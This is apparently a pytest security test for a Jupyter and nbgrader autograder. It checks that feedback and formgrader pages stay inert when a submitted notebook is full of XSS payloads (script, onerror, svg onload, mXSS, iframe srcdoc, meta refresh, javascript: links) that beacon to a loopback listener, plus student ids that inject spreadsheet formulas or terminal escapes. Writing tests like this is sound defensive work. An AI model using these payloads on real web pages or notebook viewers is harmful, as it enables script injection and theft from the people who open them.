"""Nothing a submission wrote runs or loads in the pages a person opens, in a real headless Chromium.

A small class is graded with `course grade` (the mini course, real sandboxed kernels): an honest
student, one who put payloads in every place a student controls (written answer, added markdown and
raw cells, pasted attachments, display outputs of every MIME type, image metadata, stdout, errors,
cell and notebook metadata), one with a pasted image and nbgrader's marker words in their text, and
folders whose names are not student ids. Every payload tries to reach a loopback HTTP listener
(img/script/iframe/style/fetch/navigation) and to set `window.__pwned` or open a dialog. A control
page (the same notebook through nbconvert, unsanitised) proves the listener sees them; then the
feedback pages and formgrader's submission pages (jupyter server started here) must show none.
"""

from __future__ import annotations

import base64
import csv
import io
import json
import os
import secrets
import socket
import subprocess
import sys
import tempfile
import threading
import time
import urllib.request
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import nbformat
import pytest
from browser import CHROMEDRIVER, CHROMIUM, PAGE_LOAD_TIMEOUT, headless_chromium
from hostile.minicourse import FORMAT_SOLUTION, write_mini_course
from hostile.minicourse import student_notebook as honest_notebook
from nbconvert import HTMLExporter
from nbgrader.api import Gradebook, MissingEntry
from PIL import Image

from autograder.course import load_course
from autograder.grading import gradebook
from autograder.grading.batch import grade_class

if not (CHROMIUM and CHROMEDRIVER):
    if os.environ.get("CI"):
        raise RuntimeError("chromium and chromium-driver are required in CI")
    pytest.skip("needs chromium and chromium-driver", allow_module_level=True)

ASSIGNMENT = NOTEBOOK = "mini"
BAD_IDS = ("<img src=x onerror=alert(1)>", "=HYPERLINK(1)", "x\x1b[31m")


class Listener:
    """A loopback HTTP server that records every request; its script sets window.__pwned."""

    def __init__(self) -> None:
        hits = self.hits = []

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self):  # noqa: N802
                hits.append(self.path)
                body = b"window.__pwned = 'script';" if "script" in self.path else b"<b>hit</b>"
                self.send_response(200)
                self.send_header("Content-Type", "text/javascript" if b"window" in body else "text/html")
                self.send_header("Access-Control-Allow-Origin", "*")
                self.end_headers()
                self.wfile.write(body)

            do_POST = do_GET  # noqa: N815

            def log_message(self, *args):
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_port}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()


def _js(u: str, tag: str) -> str:
    return f"fetch('{u}/{tag}');window.__pwned='{tag}';alert('{tag}')"


def markdown_payloads(u: str) -> str:
    """Markdown a student can type: raw HTML, URLs, markdown images and links, math, mermaid."""
    return "\n\n".join(
        [
            "My answer: one-hot rows have one 1.",
            f"<script>{_js(u, 'md-script')}</script>",
            f"<script src='{u}/md-script-src'></script>",
            f'<img src=x onerror="{_js(u, "md-onerror")}">',
            f"<img src='{u}/md-img'>",
            f'<svg onload="{_js(u, "md-svg")}"><image href="{u}/md-svg-image"/></svg>',
            f'<math><mtext><table><mglyph><style><img src=x onerror="{_js(u, "md-mxss")}">',
            f'<iframe srcdoc="<script>{_js(u, "md-srcdoc")}</script>"></iframe>',
            f'<iframe src="{u}/md-iframe"></iframe>',
            f'<div style="background:url({u}/md-style-attr)">x</div>',
            f"<style>body {{ background: url({u}/md-style-tag) }}</style>",
            f'<link rel="stylesheet" href="{u}/md-link">',
            f'<meta http-equiv="refresh" content="0;url={u}/md-refresh">',
            f'<base href="{u}/md-base/">',
            f'<object data="{u}/md-object"></object><embed src="{u}/md-embed">',
            f'<video poster="{u}/md-poster"></video><audio src="{u}/md-audio" autoplay></audio>',
            f'<details open ontoggle="{_js(u, "md-ontoggle")}"><summary>s</summary></details>',
            f'<!--><img src=x onerror="{_js(u, "md-comment")}">-->',
            f"![pixel]({u}/md-pixel)",
            f"![ref][p]\n\n[p]: {u}/md-ref-pixel",
            f"[click](javascript:{_js(u, 'md-js-link')})",
            '```mermaid\n<img src=x onerror="' + _js(u, "md-mermaid") + '">\n```',
            f'| a |\n|---|\n| <img src=x onerror="{_js(u, "md-table")}"> |',
            "![svg](attachment:payload.svg) ![fake](attachment:fake.png) ![gone](attachment:gone.png)",
        ]
    )


def output_bundles(u: str) -> list[dict]:
    """Display outputs as the kernel emits them (and as a student's saved notebook would hold them)."""
    svg = (
        f"<svg xmlns='http://www.w3.org/2000/svg' onload=\"{_js(u, 'out-svg')}\"><image href='{u}/out-svg-img'/></svg>"
    )
    return [
        {"data": {"text/html": f"<img src='{u}/out-html-img'><script>{_js(u, 'out-html-script')}</script>"}},
        {"data": {"application/javascript": _js(u, "out-js"), "text/plain": "<Javascript>"}},
        {"data": {"text/markdown": f'![x]({u}/out-md) <img src=x onerror="{_js(u, "out-md-onerror")}">'}},
        {"data": {"image/svg+xml": svg}},
        {
            "data": {"image/png": PNG, "text/plain": "<Figure>"},
            "metadata": {"image/png": {"width": f'1 onerror="{_js(u, "out-width")}"'}},
        },
        {"data": {"image/png": base64.b64encode(b"<script>alert(1)</script>").decode(), "text/plain": "spoof"}},
        {"data": {"application/vnd.jupyter.widget-view+json": {"model_id": "x", "version_major": 2}}},
    ]


def _png() -> str:
    buf = io.BytesIO()
    Image.new("RGB", (40, 20), (220, 40, 40)).save(buf, "PNG")
    return base64.b64encode(buf.getvalue()).decode()


PNG = _png()


def hostile_notebook(u: str) -> nbformat.NotebookNode:
    nb = honest_notebook()
    bundles = output_bundles(u)
    show = (
        "import json\nfrom IPython.display import display\n"
        f"for b in json.loads({json.dumps(json.dumps(bundles))}):\n"
        "    display(b['data'], raw=True, metadata=b.get('metadata', {}))\n"
        f"print(\"<img src='{u}/stdout'>\")"
    )
    outputs = [nbformat.v4.new_output("display_data", data=b["data"], metadata=b.get("metadata", {})) for b in bundles]
    svg_b64 = base64.b64encode(
        f"<svg xmlns='http://www.w3.org/2000/svg' onload=\"{_js(u, 'att')}\"/>".encode()
    ).decode()
    cells = []
    for cell in nb.cells:
        gid = cell.metadata.get("nbgrader", {}).get("grade_id")
        if gid == "mini_answer_format":
            cell.source = FORMAT_SOLUTION.strip() + "\n\n" + show
            cell.outputs = outputs  # what the student saved (the grader drops these and runs the cell)
            cell.metadata["tags"] = [f'x" onmouseover="{_js(u, "tag")}']
        if gid == "mini_written":
            cell.source = markdown_payloads(u)
            cell["attachments"] = {
                "payload.svg": {"image/svg+xml": svg_b64},
                "fake.png": {"image/png": base64.b64encode(b"<html><script>alert(1)</script>").decode()},
            }
        cells.append(cell)
        if gid == "mini_answer_convert":
            added = nbformat.v4.new_markdown_cell(markdown_payloads(u).replace("md-", "added-"))
            raw = nbformat.v4.new_raw_cell(f"<script>{_js(u, 'raw-cell')}</script><img src='{u}/raw-img'>")
            raw.metadata["raw_mimetype"] = "text/html"
            boom = nbformat.v4.new_code_cell(f"raise ValueError(\"<img src='{u}/error'>\")")
            cells += [added, raw, boom]
    nb.cells = cells
    nb.metadata["title"] = f"</title><script>{_js(u, 'title')}</script>"
    state = {"state": {}, "version_major": 2, "version_minor": 0, "x": f"</script><script>{_js(u, 'w')}"}
    nb.metadata["widgets"] = {"application/vnd.jupyter.widget-state+json": state}
    return nb


def marker_notebook() -> nbformat.NotebookNode:
    """Honest work with a pasted image and nbgrader's marker words in the student's own text."""
    nb = honest_notebook()
    for cell in nb.cells:
        gid = cell.metadata.get("nbgrader", {}).get("grade_id")
        if gid == "mini_answer_format":
            cell.source = "# my notes: ### BEGIN HIDDEN TESTS is where the secret tests live\n" + cell.source
        if gid == "mini_answer_convert":
            cell.source += "\n# ### BEGIN SOLUTION (I kept the marker)\nSTUDENT_LINE_KEPT = 'visible to me'\n"
            cell.source += "print(STUDENT_LINE_KEPT)"
        if gid == "mini_written":
            cell.source = (
                "Exactly one 1 per row. BEGIN HIDDEN TESTS and END HIDDEN TESTS are just words.\n\n"
                "### BEGIN SOLUTION\n\n![image.png](attachment:image.png)"
            )
            cell["attachments"] = {"image.png": {"image/png": PNG}}
    return nb


@pytest.fixture(scope="module")
def listener():
    lst = Listener()
    yield lst
    lst.server.shutdown()


@pytest.fixture(scope="module")
def graded(listener):
    # our own temporary folder: pytest's basetemp rotation (other sessions) must not remove it mid-run
    with tempfile.TemporaryDirectory(prefix="pages-") as tmp:
        yield _grade_class(listener, Path(tmp))


def _grade_class(listener, base: Path):
    course = load_course(write_mini_course(base / "course"))
    subs = base / "submissions"
    notebooks = {
        "honest": honest_notebook(),
        "mallory": hostile_notebook(listener.url),
        "markers": marker_notebook(),
        **{bad: honest_notebook() for bad in BAD_IDS},
    }
    for student, nb in notebooks.items():
        (subs / student / ASSIGNMENT).mkdir(parents=True)
        nbformat.write(nb, subs / student / ASSIGNMENT / f"{NOTEBOOK}.ipynb")
    t0 = time.monotonic()
    report = grade_class(course, subs, base / "out", workers=2, progress=False)
    print(f"graded {len(notebooks)} submissions in {time.monotonic() - t0:.1f} s")
    assert listener.hits == []  # grading itself requests nothing
    return course, subs, report


def test_class_is_graded_and_bad_ids_are_rows(graded):
    course, _, report = graded
    rows = {r.student_id: r for r in report.rows}
    assert (rows["honest"].status, rows["honest"].auto_score) == ("graded", 4.0)
    assert (rows["mallory"].status, rows["mallory"].auto_score) == ("graded", 4.0)  # payloads do not change scores
    assert (rows["markers"].status, rows["markers"].auto_score) == ("graded", 4.0), rows["markers"].message
    bad = [r for r in report.rows if r.status == "invalid student id"]
    assert len(bad) == len(BAD_IDS) and all(r.score == 0 and r.max_score == 5 for r in bad)
    assert all(r.student_id.isprintable() for r in report.rows)
    with open(report.csv_path, newline="") as f:
        cells = [c for row in csv.reader(f) for c in row]
    assert not any(c[:1] in "=+-@" and c for c in cells), cells
    assert not any(ch in c for c in cells for ch in "\x1b\r\n")
    for name in BAD_IDS:  # nothing of theirs was rendered or recorded
        assert not (report.feedback_dir / name).exists() and not (report.course_root / "autograded" / name).exists()
    with Gradebook(gradebook.db_url(report.course_root), course_id=course.id) as gb:
        assert sorted(s.id for s in gb.students) == ["honest", "mallory", "markers"]


def test_marker_words_neither_break_nor_hide(graded):
    _, _, report = graded
    page = (report.feedback_dir / "markers" / ASSIGNMENT / f"{NOTEBOOK}.html").read_text()
    assert "BEGIN HIDDEN TESTS is where the secret tests live" in page  # the student's own line, not cut
    assert "STUDENT_LINE_KEPT" in page and "visible to me" in page  # its output, not withheld
    assert "record_calls" not in page  # the real hidden tests stay hidden
    assert "output withheld" not in page
    assert f"data:image/png;base64,{PNG}" in page  # the pasted image survived


@pytest.fixture(scope="module")
def server(graded):
    _, _, report = graded
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        port = s.getsockname()[1]
    token = secrets.token_hex(16)
    log = open(report.out / "jupyter.log", "wb")
    proc = subprocess.Popen(
        [sys.executable, "-m", "jupyter", "lab", "--no-browser", "--allow-root", "--ip=127.0.0.1", f"--port={port}"]
        + [f"--ServerApp.token={token}", f"--ServerApp.root_dir={report.course_root}"],
        cwd=report.course_root,
        stdout=log,
        stderr=subprocess.STDOUT,
        env=dict(os.environ, PATH=f"{Path(sys.executable).parent}:{os.environ.get('PATH', '')}"),
    )
    url = f"http://127.0.0.1:{port}"
    deadline = time.monotonic() + 60
    while True:
        try:
            with urllib.request.urlopen(f"{url}/api/status?token={token}", timeout=2):
                break
        except OSError:
            if proc.poll() is not None or time.monotonic() > deadline:
                proc.kill()
                raise RuntimeError((report.out / "jupyter.log").read_text()[-2000:]) from None
            time.sleep(0.3)
    yield url, token
    proc.terminate()
    try:
        proc.wait(timeout=15)
    except subprocess.TimeoutExpired:
        proc.kill()
    log.close()


@pytest.fixture(scope="module")
def browser(tmp_path_factory):
    # a dialog stays open for us to see
    driver = headless_chromium(tmp_path_factory.mktemp("chromium"), {"unhandledPromptBehavior": "ignore"})
    yield driver
    driver.quit()


def visit(
    browser, listener, url: str, settle: float = 2.0, load_timeout: float = PAGE_LOAD_TIMEOUT, via: str | None = None
) -> dict:
    """Open URL; what fired: listener hits, dialogs, the page's flag. LOAD_TIMEOUT: how long to wait for the
    page's load event (a page whose dialog stays open never fires it). VIA: a page to open first and follow
    a link from, as a TA does (the Jupyter server refuses some views without a same-origin Referer)."""
    from selenium.common.exceptions import NoAlertPresentException, TimeoutException, UnexpectedAlertPresentException

    del listener.hits[:]
    dialogs: list[str] = []

    def drain() -> None:
        while True:
            try:
                alert = browser.switch_to.alert
                dialogs.append(alert.text)
                alert.accept()
            except NoAlertPresentException:
                return

    if via is not None:
        browser.get(via)
        del listener.hits[:]
    browser.set_page_load_timeout(load_timeout)
    try:
        if via is None:
            browser.get(url)
        else:
            browser.execute_script("window.location.href = arguments[0];", url)
    except (UnexpectedAlertPresentException, TimeoutException):
        pass
    finally:
        browser.set_page_load_timeout(PAGE_LOAD_TIMEOUT)  # back to the driver's own
    deadline = time.monotonic() + settle
    flag = None
    while time.monotonic() < deadline:
        drain()
        try:
            flag = flag or browser.execute_script("return window.__pwned || null")
        except UnexpectedAlertPresentException:
            continue
        time.sleep(0.2)
    drain()
    return {"hits": sorted(set(listener.hits)), "dialogs": dialogs, "flag": flag}


def test_control_page_would_see_the_payloads(graded, listener, browser, tmp_path):
    """The same payloads, unsanitised (nbconvert as it is), do reach the listener from a file:// page."""
    _, subs, _ = graded
    raw = nbformat.read(subs / "mallory" / ASSIGNMENT / f"{NOTEBOOK}.ipynb", as_version=4)
    for cell in raw.cells:
        cell.pop("attachments", None)  # nbconvert cannot even render a reference to a missing one
        if cell.cell_type == "markdown":
            cell.source = cell.source.replace("![svg](attachment:payload.svg)", "")
            cell.source = cell.source.replace("![fake](attachment:fake.png) ![gone](attachment:gone.png)", "")
    body, _ = HTMLExporter(template_name="lab").from_notebook_node(raw)
    page = tmp_path / "control.html"
    page.write_text(body)
    fired = visit(browser, listener, page.as_uri(), settle=4.0, load_timeout=5)  # its open dialogs block the load
    # (the flag does not survive: a meta refresh among the payloads navigates the page away)
    assert len(fired["hits"]) >= 20 and len(fired["dialogs"]) >= 3, fired


@pytest.mark.parametrize("student", ["mallory", "markers"])
def test_feedback_page_is_inert(graded, listener, browser, student):
    _, _, report = graded
    page = report.feedback_dir / student / ASSIGNMENT / f"{NOTEBOOK}.html"
    assert "Content-Security-Policy" in page.read_text()
    fired = visit(browser, listener, page.as_uri())
    assert fired == {"hits": [], "dialogs": [], "flag": None}
    if student == "mallory":  # the payloads are there, as text
        assert "md-onerror" in browser.find_element("tag name", "body").text


def _login(browser, url: str, token: str) -> None:
    from selenium.webdriver.common.by import By
    from selenium.webdriver.common.keys import Keys
    from selenium.webdriver.support.ui import WebDriverWait

    browser.get(f"{url}/login")
    if "/login" not in browser.current_url:
        return  # the module's browser logged in already
    browser.find_element(By.ID, "password_input").send_keys(token, Keys.ENTER)
    WebDriverWait(browser, 60).until(lambda d: "/login" not in d.current_url)


@pytest.mark.parametrize("student", ["mallory", "markers"])
def test_formgrader_submission_page_is_inert(graded, listener, server, browser, student):
    course, _, report = graded
    url, token = server
    _login(browser, url, token)
    with Gradebook(gradebook.db_url(report.course_root), course_id=course.id) as gb:
        submission_id = gb.find_submission_notebook(NOTEBOOK, ASSIGNMENT, student).id
        for bad in BAD_IDS:
            with pytest.raises(MissingEntry):
                gb.find_student(bad)
    fired = visit(browser, listener, f"{url}/formgrader/submissions/{submission_id}/", settle=4.0)
    assert fired == {"hits": [], "dialogs": [], "flag": None}
    html = browser.page_source
    if student == "markers":  # the pasted image shows in formgrader too
        assert f"data:image/png;base64,{PNG}" in html
    else:
        assert "md-onerror" in browser.find_element("tag name", "body").text
    fired = visit(browser, listener, f"{url}/formgrader/manage_students", settle=2.0)
    assert fired == {"hits": [], "dialogs": [], "flag": None}


@pytest.mark.parametrize("kind", ["submitted", "autograded"])
def test_the_servers_own_html_view_of_the_course_root_is_inert(graded, listener, server, browser, kind):
    """The Jupyter server formgrader runs in renders any notebook under the course root at /nbconvert/html/
    (JupyterLab's "Export as HTML"), in the TA's origin and unsanitised: the notebooks there must be inert."""
    _, _, report = graded
    url, token = server
    _login(browser, url, token)
    path = f"{kind}/mallory/{ASSIGNMENT}/{NOTEBOOK}.ipynb"
    assert (report.course_root / path).is_file()
    fired = visit(
        browser, listener, f"{url}/nbconvert/html/{path}?download=false", settle=4.0, via=f"{url}/formgrader/"
    )
    assert fired == {"hits": [], "dialogs": [], "flag": None}
    assert "md-onerror" in browser.find_element("tag name", "body").text  # the payloads are there, as text
